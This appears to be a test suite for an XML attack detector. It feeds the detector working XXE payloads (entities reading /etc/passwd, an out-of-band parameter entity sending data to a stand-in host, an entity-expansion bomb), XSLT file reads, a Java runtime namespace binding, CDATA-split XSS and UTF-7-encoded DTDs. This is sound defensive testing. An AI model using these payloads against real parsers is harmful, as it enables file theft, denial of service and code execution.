import { describe, expect, test } from "bun:test";
import { xmlAnalyzer } from "../../../src/detect/analyzers/xml.ts";
import { HUGE, leaf, maxStrength, rules, spansValid, wideJunk } from "./helpers.ts";

const doctype = (text: string) => leaf(text, { kind: "xml-doctype", location: "body", path: "body.xml.doctype", name: "" });

describe("xml analyzer (XXE)", () => {
  test("an external entity is strong, with its declaration as evidence", () => {
    const text = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY ext SYSTEM "file:///etc/hostname">]><r>&ext;</r>`;
    const [f] = xmlAnalyzer.analyze(leaf(text));
    expect(f?.rule).toBe("xml.external-entity");
    expect(f!.strength).toBeGreaterThanOrEqual(0.9);
    expect(text.slice(f!.start, f!.end)).toBe(`<!ENTITY ext SYSTEM "file:///etc/hostname"`);
  });

  test("PUBLIC entities, parameter entities and a DOCTYPE leaf are read alike", () => {
    expect(rules(xmlAnalyzer, doctype(`<!DOCTYPE x [<!ENTITY e PUBLIC "-//A//B" "http://198.51.100.2/e">]>`))).toContain("xml.external-entity");
    expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://a.example/x.dtd"> %p;]>`))).toContain("xml.parameter-entity");
    // A parameter entity whose value is more DTD: the nested declaration is smuggled inside it.
    expect(maxStrength(xmlAnalyzer, leaf(`<!ENTITY % wrap "<!ENTITY &#37; send SYSTEM 'http://a.example/?%data;'>">`))).toBeGreaterThanOrEqual(0.8);
  });

  test("an expansion bomb is strong; one internal entity is only a weak probe", () => {
    const levels = Array.from({ length: 5 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(8)}">`).join("");
    expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE b [<!ENTITY l0 "ha">${levels}]><b>&l5;</b>`))).toContain("xml.entity-expansion");
    const one = maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE note [<!ENTITY who "World">]><note>Hello &who;</note>`));
    expect(one).toBeGreaterThan(0);
    expect(one).toBeLessThan(0.8);
  });

  test("an external DTD counts unless it is a standard public one", () => {
    expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE r SYSTEM "http://203.0.113.9/evil.dtd"><r/>`))).toBeGreaterThanOrEqual(0.8);
    const xhtml = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>`;
    expect(xmlAnalyzer.analyze(leaf(xhtml))).toEqual([]);
    expect(xmlAnalyzer.analyze(leaf("<!doctype html><p>hi</p>"))).toEqual([]);
    const plist = `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>`;
    expect(xmlAnalyzer.analyze(leaf(plist))).toEqual([]);
  });

  test("a DTD that is a local file and no DTD (its parse error shows the file) is stronger than an external DTD; PUBLIC or SYSTEM alike", () => {
    for (const system of ["file:///etc/passwd", "/etc/hostname", "php://filter/resource=index.php", "C:\\Windows\\win.ini"]) {
      expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE r SYSTEM "${system}"><r/>`))).toBe(0.95);
      expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE r PUBLIC "x" "${system}"><r/>`))).toBe(0.95);
    }
    // A real DTD, local or not: SYSTEM 0.85, a PUBLIC one at a host its owner names 0.8, at any other as SYSTEM.
    expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE book SYSTEM "/usr/share/xml/docbook/schema/dtd/4.5/docbookx.dtd"><book/>`))).toBe(0.85);
    expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE module PUBLIC "-//Checkstyle//DTD Checkstyle Configuration 1.3//EN" "https://checkstyle.org/dtds/configuration_1_3.dtd"><module/>`))).toBe(0.8);
    expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>`))).toBe(0.85);
    expect(maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE office:document PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd"><r/>`))).toBe(0.8);
    for (const pub of ["-//X//Y", "-//Checkstyle//DTD", "nonsense", "-//www//DTD X//EN"]) expect([pub, maxStrength(xmlAnalyzer, leaf(`<!DOCTYPE r PUBLIC "${pub}" "http://evil.example/a.dtd"><r/>`))]).toEqual([pub, 0.85]);
  });

  test("a public identifier that names a standard is the sender's words: at another host it is an external DTD", () => {
    for (const system of ["http://evil.example/x.dtd", "http://www.w3.org@evil.example/x.dtd", "http://www.w3.org.evil.example/x.dtd", "http://evil.example/www.w3.org/x.dtd"]) {
      expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${system}"><r/>`))).toContain("xml.external-dtd");
    }
  });

  test("XInclude with its namespace, and XSLT that reads documents", () => {
    const xi = `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>`;
    expect(rules(xmlAnalyzer, leaf(xi))).toContain("xml.xinclude");
    const xsl = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('/etc/hostname')"/></xsl:template></xsl:stylesheet>`;
    expect(rules(xmlAnalyzer, leaf(xsl))).toContain("xml.xslt-read");
    // A server's own file read, rather than another stylesheet: stronger.
    expect(maxStrength(xmlAnalyzer, leaf(xsl))).toBe(0.9);
    expect(maxStrength(xmlAnalyzer, leaf(xsl.replace("/etc/hostname", "file:///etc/passwd")))).toBe(0.9);
    expect(maxStrength(xmlAnalyzer, leaf(xsl.replace("/etc/hostname", "common.xml")))).toBe(0.8);
    // Every read is looked at: a server's file after the stylesheet's own document.
    expect(maxStrength(xmlAnalyzer, leaf(xsl.replace("document('/etc/hostname')", "document('')/x | document('/etc/passwd')")))).toBe(0.9);
  });

  test("a stylesheet that binds a language runtime's namespace runs code", () => {
    const php = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"/></xsl:stylesheet>`;
    expect(rules(xmlAnalyzer, leaf(php))).toEqual(["xml.xslt-runtime"]);
    const java = `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>`;
    expect(maxStrength(xmlAnalyzer, leaf(java))).toBe(0.85);
    // A stylesheet without one, and a PHP namespace outside XSLT, are not this.
    expect(xmlAnalyzer.analyze(leaf(`<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b/></xsl:template></xsl:stylesheet>`))).toEqual([]);
    expect(xmlAnalyzer.analyze(leaf(`<doc xmlns:php="http://php.net/xsl"/>`))).toEqual([]);
  });

  test("CDATA sections that cut a tag or a word in pieces hide markup", () => {
    for (const text of ["<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>", `<x><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></x>`]) {
      const found = xmlAnalyzer.analyze(leaf(text));
      expect([text, found.map((f) => `${f.class} ${f.rule}`)]).toEqual([text, ["xss xml.cdata-split-markup"]]);
    }
    // A whole block of text in CDATA, and the standard escape of `]]>`, are honest.
    for (const text of ["<note><![CDATA[a < b && c > d]]></note>", "<a><![CDATA[some text]]]]><![CDATA[>more]]></a>"]) expect(xmlAnalyzer.analyze(leaf(text))).toEqual([]);
  });

  test("CDATA around a script, IE's behavior import and HTML data binding run markup", () => {
    const cdata = "<![CDATA[<script>var n=0;</script>]]>";
    expect(xmlAnalyzer.analyze(leaf(cdata)).map((f) => [f.class, f.rule, f.strength])).toEqual([["xss", "xml.cdata-script", 0.7]]);
    // An XML body (a CMS posting a page) may carry one: weak there.
    expect(maxStrength(xmlAnalyzer, leaf(`<post>${cdata}</post>`, { location: "body", path: "body.xml.post", name: "post" }))).toBeLessThan(0.5);
    for (const text of [`<HTML xmlns:x><?import namespace="x" implementation="http://evil.example/x.htc">`, `<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`, `<span datasrc="#d" dataformatas='html'>`]) {
      expect([text, rules(xmlAnalyzer, leaf(text)), maxStrength(xmlAnalyzer, leaf(text))]).toEqual([text, ["xml.ie-markup-binding"], 0.8]);
    }
    for (const text of ["<![CDATA[<p>hello</p>]]>", "<![CDATA[<scripture>]]>", `<?xml-stylesheet href="a.xsl"?><x/>`, `<span dataformatas="text">`, "<import implementation=\"x\"/>"]) {
      expect([text, xmlAnalyzer.analyze(leaf(text))]).toEqual([text, []]);
    }
  });

  test("a document in UTF-7 is read as its parser reads it: the DOCTYPE that only that reading has counts, the whole value its evidence", () => {
    const text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-';
    const [f] = xmlAnalyzer.analyze(leaf(text));
    expect(f).toMatchObject({ rule: "xml.external-entity", start: 0, end: text.length });
    // However the markup is shifted: a line break encoded with the `<!`.
    const shifted = '<?xml version="1.0" encoding="UTF-7"?>+AAoAPAAh-DOCTYPE r [+AAoAPAAh-ENTITY x SYSTEM "file:///etc/passwd"+AD4-]+AD4-';
    expect(rules(xmlAnalyzer, leaf(shifted))).toEqual(["xml.external-entity"]);
    // UTF-7 that no declaration makes the parser read, and a plus in prose: nothing.
    for (const v of ["+ADwAIQ-DOCTYPE r +AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file:///x+ACI-+AD4-+AF0-+AD4-", "C++ and A+B tests"]) expect(xmlAnalyzer.analyze(leaf(v))).toEqual([]);
    // One finding per rule, however many declarations the reading holds.
    const many = `<?xml version="1.0" encoding="UTF-7"?>${"+ADwAIQ-ENTITY x SYSTEM +ACI-file:///x+ACI-+AD4-".repeat(20_000)}`;
    const found = rules(xmlAnalyzer, leaf(many));
    expect(found).toContain("xml.external-entity");
    expect(new Set(found).size).toBe(found.length);
  });

  test("ordinary XML, SOAP and text are no finding", () => {
    for (const text of ["<?xml version=\"1.0\"?><order><id>42</id><note>a &amp; b</note></order>", "plain words 123", "a <b> tag & more", "<!-- comment --><x/>"]) {
      expect(xmlAnalyzer.analyze(leaf(text))).toEqual([]);
    }
  });

  test("a megabyte value and binary junk: a correct answer, no throw", () => {
    expect(xmlAnalyzer.analyze(leaf(HUGE))).toEqual([]);
    const padded = `${HUGE}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>`;
    const found = xmlAnalyzer.analyze(leaf(padded));
    expect(found.map((f) => f.rule)).toEqual(["xml.external-entity"]);
    expect(found[0]!.start).toBe(padded.indexOf("<!ENTITY"));
    // Declarations whose literals run into each other: each read once, one weak finding.
    expect(rules(xmlAnalyzer, leaf(`<!ENTITY a "`.repeat(50_000)))).toEqual(["xml.internal-entity"]);
    const j = wideJunk();
    expect(spansValid(xmlAnalyzer.analyze(leaf(j)), j)).toBe(true);
  });
});
